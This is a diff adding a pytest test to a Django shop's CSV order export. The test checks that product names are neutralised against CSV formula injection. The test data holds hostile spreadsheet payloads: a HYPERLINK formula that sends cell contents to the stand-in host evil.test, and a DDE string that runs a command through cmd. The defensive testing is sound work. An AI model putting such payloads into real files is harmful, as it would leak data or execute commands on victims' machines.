@@ -8,6 +8,8 @@ from zoneinfo import ZoneInfo
 import pytest
 from django.core.management import CommandError, call_command
 
+from shop.orders.models import OrderLine
+
 from .factories import make_order
 
 pytestmark = pytest.mark.django_db
@@ -106,3 +108,24 @@ def test_an_empty_period_is_just_the_header():
 
     assert out.getvalue().splitlines() == [out.getvalue().splitlines()[0]]
     assert out.getvalue().startswith("order_number,placed_at,status")
+
+
+def test_a_product_name_that_is_a_formula_is_exported_as_text_that_runs_nothing(november):
+    """CSV injection: a catalog manager's formula must not run on the accountant's machine."""
+    order = november(3, lines=[("TEE-M", 2, "19.90"), ("MUG", 1, "8.50")])
+    OrderLine.objects.filter(order=order, sku="TEE-M").update(
+        product_name='=HYPERLINK("http://evil.test/?"&A1,"Invoice")', variant_name="@M"
+    )
+    OrderLine.objects.filter(order=order, sku="MUG").update(product_name="-1+cmd|' /C calc'!A0")
+
+    rows = export("--since", "2026-11-01")
+
+    assert [(row["product_name"], row["variant_name"]) for row in rows] == [
+        ('\'=HYPERLINK("http://evil.test/?"&A1,"Invoice")', "'@M"),
+        ("'-1+cmd|' /C calc'!A0", ""),
+    ]
+    assert (rows[0]["unit_price"], rows[0]["line_total"], rows[0]["order_total"]) == (
+        "19.90",
+        "39.80",
+        "53.20",
+    )
